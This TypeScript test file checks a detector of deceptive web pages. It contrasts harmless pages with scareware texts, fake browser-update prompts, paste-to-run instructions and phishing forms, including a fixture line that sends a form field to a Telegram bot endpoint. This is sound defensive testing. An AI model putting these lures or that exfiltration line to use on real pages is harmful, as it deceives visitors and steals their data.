import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
import { detect } from '../../../src/analysis/detectors/detect.ts';
import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
import { documentOf, observed, PAGE, slugsOf } from '../../support/detected.ts';
import { requestOf } from '../../support/running-farm.ts';

describe('§2.5.13 harmless pages that share words with deceptive ones', () => {
  const form = (facts: Partial<ObservationOf<'form'>['facts']>, url = PAGE) =>
    observed('form', { fields: ['password'], action_url: `${url}/next`, text: 'Sign in', ...facts }, 0, url);

  it('a page whose browser refuses it something is no scareware beside a telephone number', () => {
    const business = '\nContact us to know more, or call us now: +49 30 5550 1234';
    for (const refused of [
      'Notifications have been blocked in your browser.',
      'Third-party cookies are off: the player is blocked by your browser.',
      'Ihr Browser blockiert Cookies.\nRufen Sie jetzt unsere Hotline an.',
    ])
      assert.deepEqual(slugsOf({ text: refused + business }), [], refused);
    const hacked = 'Ihr Gerät wurde gehackt, auch die Kamera.\nRufen Sie jetzt die Hotline an: +49 30 5550 1234';
    assert.deepEqual(slugsOf({ text: hacked }), ['scareware']);
    assert.deepEqual(slugsOf({ text: `Your browser has been locked.${business}` }), ['scareware']);
    assert.deepEqual(
      slugsOf({ text: 'Your computer has been locked.\nContact support to know more: +49 30 5550 1234' }),
      ['scareware'],
    );
    assert.deepEqual(
      slugsOf({ text: 'Your computer has been locked.\nContact us to know more: +49 30 5550 1234' }),
      [],
    );
  });

  it('a text about what follows an infection is no scareware beside a telephone number', () => {
    const pressure = '\nDo not restart it. Call us now: +49 30 5550 1234';
    for (const condition of [
      'Once your computer is infected, others see your files.',
      'Ways to notice your PC is infected',
    ])
      assert.deepEqual(slugsOf({ text: condition + pressure }), [], condition);
    assert.deepEqual(slugsOf({ text: `We have detected that your computer is infected.${pressure}` }), ['scareware']);
  });

  it('a shop that repairs devices is no scareware, and a virus that damages one is, whatever its make', () => {
    const shop = 'Your phone is damaged. We repair it today.\nContact us now: +49 30 5550 1234';
    assert.deepEqual(slugsOf({ text: shop }), []);
    for (const threat of [
      'Your Samsung Galaxy is heavily damaged by 4 viruses!\nRemove the viruses now.\n4 viruses detected',
      'Your Chrome is severely damaged by 13 malware!\nInstall the cleaner now.\n13 threats found (high)',
      'Your PC is infected with 5 viruses!\nRenew now to stay safe.\n5 viruses were found',
    ])
      assert.deepEqual(slugsOf({ text: threat }), ['scareware'], threat);
  });

  it('a shop that repairs devices, a network that locks them, and a browser that blocks something are no scareware in any language', () => {
    for (const text of [
      'Ihr Handy ist beschädigt. Wir reparieren es heute.\nRufen Sie jetzt an: +49 30 5550 1234',
      'Votre téléphone est endommagé. Nous le réparons.\nAppelez le support: 01 23 45 67 89',
      'Tu teléfono está dañado. Lo reparamos.\nLlame al soporte técnico: 900 555 0142',
      'Your phone is locked to a network. We unlock it.\nCall us now: +44 20 5550 1234',
      'After three wrong attempts at the PIN your SIM is locked, enter the PUK code.\nCall us now: +44 20 5550 1234',
      'This player is blocked by your browser.\nCall us now: +44 20 5550 1234',
      'Your device is locked by your administrator.\nContact support now: +44 20 5550 1234',
      'Screen time: at nine, your phone is locked.\nDo not restart it.',
      'Your PC is at risk without a backup.\nCall us now: +44 20 5550 1234',
      'お使いのブラウザではCookieがブロックされています。\nお電話でのサポート: 0120-555-0142',
      'Ваш браузер: всплывающие окна заблокированы.\nПозвоните в службу поддержки: +7 495 555 01 42',
    ])
      assert.deepEqual(slugsOf({ text }), [], text);
  });

  it('help with a phone whose code was forgotten is no scareware', () => {
    const help = 'Your iPhone is disabled: connect it to iTunes.\nDownload our tool now.';
    for (const text of [
      `Your iPhone has been disabled after six wrong passcodes.\n${help}`,
      'Your device has been blocked after three incorrect passwords.\nContact our support: +49 30 5550 1234',
      'Ihr Gerät ist gesperrt, weil Sie den Code dreimal falsch eingegeben haben.\nRufen Sie den Support an: 0800 555 01 42',
      'Votre appareil est bloqué après trois codes erronés.\nContactez le support: 01 23 45 67 89',
      'Su dispositivo está bloqueado tras tres contraseñas incorrectas.\nLlame al soporte: 900 555 0142',
      'Ваш телефон заблокирован: трижды введён неверный код.\nПозвоните в службу поддержки: +7 495 555 01 42',
    ])
      assert.deepEqual(slugsOf({ title: 'Your iPhone has been disabled by its passcode', text }), [], text);
    assert.deepEqual(slugsOf({ text: 'Your iPhone has been disabled.\nDo not close this page.' }), ['scareware']);
  });

  it('a product that removes what it finds on a device is no scareware', () => {
    const text = 'Removes viruses found on your PC.\nDownload it now.\n4 million threats detected every day';
    assert.deepEqual(slugsOf({ text }), []);
  });

  it('what vendors of antivirus software say of viruses is no scareware, and their name elsewhere protects nobody', () => {
    const text = 'Your PC is at risk.\n5 threats were found\nScan now and remove them.';
    for (const url of ['https://www.avira.com/en/free', 'https://www.trendmicro.com/', 'https://free.drweb.ru/'])
      assert.deepEqual(slugsOf({ text, url }), [], url);
    assert.deepEqual(slugsOf({ text, url: 'https://avira.example/' }), ['scareware']);
  });

  it('requirements of a site are no fake_update beside a download', () => {
    const html = '<a href="/files/form.zip">ダウンロード Download Baixar</a>';
    for (const text of [
      '推奨ブラウザ: Google Chrome 最新版、Safari 最新版',
      'ブラウザの更新ボタンを押さないでお待ちいただけますか。ブラウザの更新ボタン',
      'Use um navegador atualizado, como Chrome ou Firefox.',
      'Поддерживаются браузеры Chrome и Safari, обновление от 1 мая',
      'Desteklenen tarayıcılar, güncellenme tarihi: 1 Mayıs',
      'De lijst van browsers is bijgewerkt op 1 mei.',
      'Old versions of Google Chrome for Windows',
      'Firefox for Windows. An old version of Firefox is here too.',
    ])
      assert.deepEqual(slugsOf({ text, html }), [], text);
    for (const text of [
      'お使いのブラウザは最新ではありません。',
      'ブラウザを更新してください。',
      'Seu navegador está desatualizado.',
      'Требуется обновление браузера',
      'Tarayıcınızı güncelleyin',
    ])
      assert.deepEqual(slugsOf({ text, html }), ['fake_update'], text);
  });

  it('notes about a release, and advice to update an own app, are no fake_update beside its installer', () => {
    const html = '<a href="/App-installer.exe">App-installer.exe</a><a href="/app.apk">Download APK</a>';
    for (const text of [
      'Fixed: the media player is missing subtitles',
      'Fixed a crash with an outdated Chrome',
      'How to update: update your Android app when we publish a new version.',
      'Requirements: Windows 10, and update your browser to Chrome 100 or newer.',
    ])
      assert.deepEqual(slugsOf({ text, html }), [], text);
    assert.deepEqual(slugsOf({ text: 'Your Android browser is outdated', html }), ['fake_update']);
  });

  it('conditions, and statements about any browser, are no fake_update beside a program', () => {
    const html = '<a href="/sign.exe">Download Descargar Scarica Скачать indir ダウンロード</a>';
    for (const text of [
      'Wer einen veralteten Browser nutzt, riskiert seine Daten.',
      'An outdated browser is a risk.',
      'Un navigateur obsolète est dangereux.',
      'Si su navegador está desactualizado, la firma no funciona.',
      'Se il browser non è aggiornato, la firma non funziona.',
      'Обновите страницу в браузере',
      'Если браузер устарел, подпись не работает.',
      'Tarayıcınız güncel değilse e-imza çalışmaz.',
      'お使いのブラウザが古い場合は表示されません。',
      'Update your media player to the latest firmware.',
    ])
      assert.deepEqual(slugsOf({ text, html }), [], text);
    for (const text of [
      'Sie verwenden einen veralteten Browser',
      'Su navegador está desactualizado',
      'Atualize o navegador e acesse o vídeo',
      'Обновите браузер',
    ])
      assert.deepEqual(slugsOf({ text, html }), ['fake_update'], text);
  });

  it('what criminals say is no scareware beside the telephone number of a bank', () => {
    const number = '\nCall our fraud support immediately: +44 800 555 0142';
    for (const text of [
      'Criminals say that your computer has been hacked.',
      'Callers pretend that your PC is infected.',
      'Anrufer behaupten, dass Ihr Computer gehackt wurde. Rufen Sie jetzt unsere Hotline an.',
    ])
      assert.deepEqual(slugsOf({ text: text + number }), [], text);
    assert.deepEqual(slugsOf({ text: `Your computer has been hacked by criminals.${number}` }), ['scareware']);
  });

  it('advice of a bank to keep a browser new is no fake_update beside its own program', () => {
    const html =
      '<a href="/files/e-banking-setup.exe">Download</a><a href="/files/x.exe">Télécharger herunterladen</a>';
    for (const text of [
      'For your safety, update your browser regularly.',
      'Aktualisieren Sie Ihren Browser regelmäßig.',
      'Pensez à mettre à jour régulièrement votre navigateur.',
    ])
      assert.deepEqual(slugsOf({ text, html }), [], text);
    assert.deepEqual(slugsOf({ text: 'Update your browser to continue.', html }), ['fake_update']);
  });

  it('a document to download beside the hint of an old browser is no fake_update', () => {
    const text = 'Your browser is out of date.';
    const link = (attributes: string) => slugsOf({ text, html: `<a ${attributes}>Download the brochure</a>` });
    assert.deepEqual(link('href="/brochure.pdf" download=""'), []);
    assert.deepEqual(link('href="/get?id=1" download="brochure.pdf"'), []);
    assert.deepEqual(link('href="/brochure.pdf" download="setup.exe"'), ['fake_update']);
    assert.deepEqual(link('href="/get?id=1" download=""'), ['fake_update']);
  });

  it('instructions for a terminal beside a captcha are no paste_to_run', () => {
    const install = 'Open your terminal and paste this command.';
    for (const near of ['This site is protected by reCAPTCHA.', 'Solves every captcha: get a key.'])
      assert.deepEqual(slugsOf({ text: `${install}\n${near}` }), [], near);
    const run = 'Press Windows + R.\nPress Ctrl + V.\n';
    for (const form of ['Protected by reCAPTCHA', 'Was this helpful? CAPTCHA verification is required.'])
      assert.deepEqual(slugsOf({ text: run + form }), [], form);
    assert.deepEqual(slugsOf({ text: `${run}Complete the captcha` }), ['paste_to_run']);
    assert.deepEqual(slugsOf({ text: `${install}\nThis proves that you are human.` }), ['paste_to_run']);
  });

  it('words that only contain those of an instruction are no paste_to_run beside a captcha', () => {
    for (const text of [
      'Classes de Terminale\nNotre école vous répond.\nJe ne suis pas un robot',
      'Order toothpaste at the terminal.\nI am not a robot',
      'Payment terminal: paste its number.\nVerify that you are human',
      'El paciente terminal, un ser humano como todos, ya no puede pegar sellos.',
    ])
      assert.deepEqual(slugsOf({ text }), [], text);
  });

  it('what the frame of a captcha service says is not said by the page', () => {
    const page = documentOf({ text: 'Open your terminal and paste this command.' });
    const slugs = (url: string) => {
      const frame = { ...documentOf({ text: "I'm not a robot", url }), frame: 'f' };
      return detect({ ...NO_EVIDENCE, documents: [page, frame] }).findings.map(({ tag_slug }) => tag_slug);
    };
    assert.deepEqual(slugs('https://www.google.com/recaptcha/api2/anchor?k=1'), []);
    assert.deepEqual(slugs('https://newassets.hcaptcha.com/captcha/v1/1/static/hcaptcha.html'), []);
    assert.deepEqual(slugs('https://smartcaptcha.yandexcloud.net/checkbox.html'), []);
    assert.deepEqual(slugs('https://geo.captcha-delivery.com/captcha/?cid=1'), []);
    assert.deepEqual(slugs('https://www.google.com.example/recaptcha/api2/anchor'), ['paste_to_run']);
  });

  it('headlines of news are no fake_system_dialog', () => {
    const slugs = (text: string, buttons: string[]) => slugsOf({}, [observed('dialog_box', { text, buttons })]);
    const headline = 'New macOS malware detected in forty applications of the store';
    assert.deepEqual(slugs(`Security\n${headline}\nBy A. Writer`, ['Security', headline, 'A. Writer']), []);
    assert.deepEqual(slugs(headline, [headline.slice(0, 60)]), []);
    assert.deepEqual(slugs('Shop.com says it sells less this year\nRead more', ['Read more']), []);
    assert.deepEqual(slugs('www.shop.example says:\nYou have won.', ['OK']), ['fake_system_dialog']);
    assert.deepEqual(slugs('macOS malware detected in forty applications\nBy A. Writer', ['Read more']), []);
    const hero = 'Security for Windows and macOS\nThreats detected: see the list';
    assert.deepEqual(slugs(hero, ['Free trial']), []);
    assert.deepEqual(slugs('macOS, protected\n2 million threats detected every day', ['Free trial']), []);
    const dialog = 'macOS security\nMalware detected';
    assert.deepEqual(slugs(dialog, ['Remove now']), ['fake_system_dialog']);
    assert.deepEqual(slugs(dialog, [dialog]), ['fake_system_dialog']);
  });

  it('pages below the own top-level domain of a brand, and its sign-in pages in other clouds, are its own', () => {
    const found = (brand: string, url: string) =>
      slugsOf({ title: `Log in to your ${brand} account`, url }, [form({}, url)]).length > 0;
    for (const [brand = '', url = ''] of [
      ['DHL', 'https://mydhl.express.dhl/login'],
      ['Google', 'https://about.google/'],
      ['Microsoft', 'https://login.microsoftonline.us/common'],
      ['Microsoft', 'https://m365.cloud.microsoft/'],
      ['iCloud', 'https://www.icloud.com.cn/'],
      ['Santander', 'https://www.santanderbank.com/'],
    ])
      assert.equal(found(brand, url), false, url);
    for (const [brand = '', url = ''] of [
      ['DHL', 'https://express-dhl.example/login'],
      ['DHL', 'https://login.google/'],
      ['Microsoft', 'https://microsoft.live/'],
      ['Apple', 'https://apple.me/'],
    ])
      assert.equal(found(brand, url), true, url);
  });

  it('a login beside code that only shows the endpoint of a messenger, or a bundle that writes to one, is no phishing_form', () => {
    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
    const filler = ';var a=1'.repeat(3_000);
    const bodyOf = (text: string) => [
      { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text },
    ];
    const shown = (html: string) => slugsOf({ html }, [form({})]);
    assert.deepEqual(shown(`<pre>${sends}</pre><a href="https://api.telegram.org/bot1:a/getMe">try</a>`), []);
    assert.deepEqual(shown(`<script>${sends}</script>`), ['phishing_form']);
    assert.deepEqual(shown(`<form onsubmit="fetch('https://api.telegram.org/bot1:a/sendMessage')">`), [
      'phishing_form',
    ]);
    const loaded = (script: string) => slugsOf({}, [form({})], { bodies: bodyOf(script) });
    assert.deepEqual(loaded(`password:!0${filler}${sends}${filler}`), []);
    assert.deepEqual(loaded(`${filler}${sends}${filler}${sends.replace('phone', 'pass')}`), ['phishing_form']);
    assert.deepEqual(loaded(sends), ['phishing_form']);
  });

  it('buttons of other logins with the pictures of their brands are no phishing_form', () => {
    const withPicture = (text: string, url: string) =>
      slugsOf({}, [form({ text })], { requests: [requestOf(1, { url, resource_type: 'image', landing: 0 })] });
    const icon = 'https://www.google.com/favicon.ico';
    assert.deepEqual(withPicture('E-mail\nPassword\n- or -\nGoogle', icon), []);
    assert.deepEqual(withPicture('E-mail\nPassword\nGoogle\nFacebook', icon), []);
    assert.deepEqual(withPicture('Google\nWelcome back', icon), ['phishing_form']);
    assert.deepEqual(withPicture('PayPal\nWelcome back\nor', 'https://www.paypal.com/logo.svg'), ['phishing_form']);
  });

  it('labels of other logins, codes of an app and a badge of a store are no phishing_form', () => {
    const withText = (text: string, facts: object = {}) => slugsOf({}, [form({ text, ...facts })]);
    for (const text of [
      'E-mail\nPassword\nor\nGoogle account\nMicrosoft account',
      'メールアドレス\nパスワード\nGoogle アカウントでログイン',
      'E-posta\nŞifre\nGoogle hesabınızla giriş yapın',
      'Почта\nПароль\nВойти с помощью Google аккаунта',
      'E-Mail\nPasswort\nÜber Google Konto anmelden',
      'Link external accounts: Chase, Wells Fargo, Bank of America\nPassword',
      'Watch films together. You need a Netflix account.\nPassword',
      'Create an account\nPassword\nLink your Chase account\nImport your Coinbase account',
      'Su cuenta de correos institucional\nContraseña',
    ])
      assert.deepEqual(withText(text), [], text);
    assert.deepEqual(slugsOf({ title: 'Acceder a correos' }, [form({ text: 'Usuario\nContraseña' })]), []);
    const code = 'Enter the code of Google Authenticator for your account';
    assert.deepEqual(withText(code, { fields: ['one_time_code'] }), []);
    const badge = 'https://play.google.com/intl/en_us/badges/static/images/badges/en_badge_web_generic.png';
    const requests = [requestOf(1, { url: badge, resource_type: 'image', landing: 0 })];
    assert.deepEqual(slugsOf({}, [form({ text: 'Log in\nGet it on Google Play' })], { requests }), []);
    for (const text of ['or\nConfirm your Google password', 'Confirm your Chase, Wells Fargo account'])
      assert.deepEqual(withText(text), ['phishing_form'], text);
  });

  it('a form that imports a wallet by its phrase is no phishing_form', () => {
    const text = 'Import your wallet\nEnter your recovery phrase. Never share it to claim an airdrop for your wallet.';
    assert.deepEqual(slugsOf({ text }, [form({ fields: ['seed_phrase'], text })]), []);
  });

  it('words that only contain those of a recurring price are no forced_subscription', () => {
    const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
    const small = (text: string) => slugsOf({}, [observed('price', { text, font_px: 7, contrast: 12, in_page: true })]);
    for (const text of [
      'Tell me about offers under $50',
      'A stand for your TV/monitor for $20',
      'Renewed phones from $99',
      'Скидка в день рождения: 500 ₽',
    ])
      assert.deepEqual([ticked(text), small(text)], [[], []], text);
    for (const text of ['Abo: 5 €', 'Renews at $49', '$9/mo', '9 €/mes', '99 ₽ в день'])
      assert.deepEqual([ticked(text), small(text)], Array(2).fill(['forced_subscription']), text);
  });

  it('a vendor that offers its own program beside the hint of an old browser is no fake_update', () => {
    const url = 'https://www.acme-editor.example/';
    const hint = 'Your browser is out of date. Update your browser to see everything.\nAcme Editor 5.1';
    const slugs = (html: string, text = hint) => slugsOf({ url, text, html });
    assert.deepEqual(slugs('<a href="/files/acme-editor-5.1.exe">Download for Windows</a>'), []);
    assert.deepEqual(slugs('<a href="https://files.example/AcmeEditor.dmg">Download Acme Editor</a>'), []);
    assert.deepEqual(slugs('<a href="/get?id=1" download="">Acme Editor herunterladen</a>'), []);
    for (const html of [
      '<a href="/files/setup.exe">Download</a>',
      '<a href="https://files.example/acme-editor-5.1.exe">Download</a>',
      '<a href="/files/acme-editor-5.1.exe">Update now</a>',
      '<a href="/files/acme-editor-chrome.exe">Download for Windows</a>',
    ])
      assert.deepEqual(slugs(html), ['fake_update'], html);
    const prompt = {
      text: 'Your browser is out of date.',
      html: '<a href="/browser-fix.exe">Download Browser Fix</a>',
    };
    assert.deepEqual(slugsOf({ ...prompt, url: 'https://browser-fix.example/' }), ['fake_update']);
    const saved = (file_name: string) =>
      slugsOf({ url, text: hint }, [
        observed('auto_download', { file_name, file_url: `${url}files/${file_name}` }, 0, url),
      ]);
    assert.deepEqual(saved('acme-editor-5.1.exe'), ['auto_download']);
    assert.deepEqual(saved('setup.exe'), ['auto_download', 'fake_update']);
  });

  it('a shop that repairs or insures devices is no scareware, unless the page says what it has found or holds its visitor', () => {
    for (const shop of [
      'Your PC has been hacked. We repair it today.\nOpening hours: Mon-Fri 9-18\nCall us now: +49 30 5550 1234',
      'Your computer is infected. Our workshop repairs it, do not ignore this.\nContact our support: +49 30 5550 1234',
      'Ihr PC wurde gehackt. Wir reparieren ihn sofort.\nÖffnungszeiten: 9-18 Uhr\nRufen Sie jetzt an: +49 30 5550 1234',
      "Votre ordinateur est piraté. Nous le réparons.\nHeures d'ouverture: 9-18 h\nAppelez le support: 01 23 45 67 89",
    ]) {
      assert.deepEqual(slugsOf({ title: shop.slice(0, 30), text: shop }), [], shop);
      assert.deepEqual(slugsOf({ text: shop }, [observed('dialogs', { count: 1 })]), ['scareware'], shop);
      assert.deepEqual(slugsOf({ text: `${shop}\n3 viruses were found` }), ['scareware'], shop);
    }
    for (const text of [
      'Your phone is not protected against damage.\nCall us now: +44 20 5550 1234',
      'Online, you are tracked by hackers. Protect yourself now.\nContact our support: +44 20 5550 1234',
    ])
      assert.deepEqual(slugsOf({ text }), [], text);
    const call = 'Your PC has been hacked. We repair it today.\nCall us now: +49 30 5550 1234';
    assert.deepEqual(slugsOf({ text: call }), ['scareware']);
  });

  it('an account that a checkout lists among the ways to pay is no phishing_form', () => {
    const checkout = 'Zahlungsart\nKreditkarte\nPayPal Konto\nRechnung\nKartennummer\nPrüfziffer';
    const slugs = (text: string) => slugsOf({ title: 'Kasse' }, [form({ fields: ['card_number', 'password'], text })]);
    assert.deepEqual(slugs(checkout), []);
    assert.deepEqual(slugs('Credit card\nKlarna\nPayPal account\nCard number'), []);
    assert.deepEqual(slugs('PayPal Konto\nKartennummer\nPrüfziffer'), ['phishing_form']);
    assert.deepEqual(slugs(`${checkout.replaceAll('\n', ' ')} Passwort bestätigen`), []);
    const restricted = checkout.replace('PayPal Konto', 'Ihr PayPal Konto ist eingeschränkt');
    assert.deepEqual(slugs(restricted), ['phishing_form']);
    assert.deepEqual(slugs(checkout.replace('PayPal Konto', 'Sparkasse Konto')), ['phishing_form']);
  });

  it('the logo of a brand beside the choice of a way to pay is no phishing_form on the domain of a shop', () => {
    const slugs = (text: string, fields: ObservationOf<'form'>['facts']['fields'] = ['card_number', 'card_code']) =>
      slugsOf({ title: 'Checkout' }, [form({ fields, text })], {
        requests: [requestOf(1, { url: 'https://www.paypal.com/logo.svg', resource_type: 'image', landing: 0 })],
      });
    for (const text of [
      'Pay with\nCard\nPayPal\nCard number\nSecurity code\nPay now',
      'Payment\nPayPal\nCredit card\nCard number',
      'Zahlungsart\nKreditkarte\nPayPal\nKartennummer\nPrüfziffer',
      'Moyen de paiement\nCarte bancaire\nPayPal\nNuméro de carte',
      'Forma de pago\nTarjeta\nPayPal\nNúmero de tarjeta',
      'Visa\nMastercard\nPayPal\nCard number',
    ])
      assert.deepEqual(slugs(text), [], text);
    for (const text of [
      'PayPal: bitte bestätigen Sie Ihre Karte.\nKartennummer\nPrüfziffer',
      'PayPal\nUpdate your card\nCard number',
      'Your PayPal account is limited\nCard\nPayPal\nCard number',
    ])
      assert.deepEqual(slugs(text), ['phishing_form'], text);
    const account = 'Pay with\nCard\nPayPal\nCard number\nPassword of your new account';
    assert.deepEqual(slugs(account, ['card_number', 'password']), []);
    assert.deepEqual(slugs('Card\nPayPal\nPassword', ['password']), ['phishing_form']);
  });

  it('a ticked box for mails with a limit or a discount is no forced_subscription', () => {
    const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
    for (const label of [
      'Weekly deals under $10',
      'Send me weekly offers with up to 50 € off',
      'Monatlicher Newsletter mit 5 € Gutschein',
      'Wöchentliche Angebote unter 10 Euro',
      'Offres hebdomadaires: moins de 20 €',
    ])
      assert.deepEqual(ticked(label), [], label);
    for (const label of [
      'Weekly deals for $10',
      'Deals club under $10 a week',
      'Deals club for up to 9.99 € per month',
      'Weekly deals under $10, then $39.90',
      'VIP club, billed weekly, under $10',
    ])
      assert.deepEqual(ticked(label), ['forced_subscription'], label);
  });

  it('a form without a server of its own that asks for the number of an identity card is no phishing_form', () => {
    const sent = (fields: ObservationOf<'form'>['facts']['fields']) =>
      slugsOf({}, [form({ fields, action_url: 'https://script.google.com/macros/s/1/exec' })]);
    assert.deepEqual(sent(['personal_id', 'phone']), []);
    assert.deepEqual(sent(['personal_id', 'card_number']), ['phishing_form']);
  });

  it('a form that asks for an account of a messenger as a contact is no phishing_form', () => {
    const signUp = (text: string) => slugsOf({}, [form({ text })]);
    assert.deepEqual(signUp('E-mail\nPassword\nTelegram account\nYour LinkedIn account'), []);
    assert.deepEqual(signUp('Sign in to your Telegram account'), ['phishing_form']);
    assert.deepEqual(signUp('Your Facebook account will be disabled'), ['phishing_form']);
    assert.deepEqual(signUp('Your PayPal account'), ['phishing_form']);
  });
});
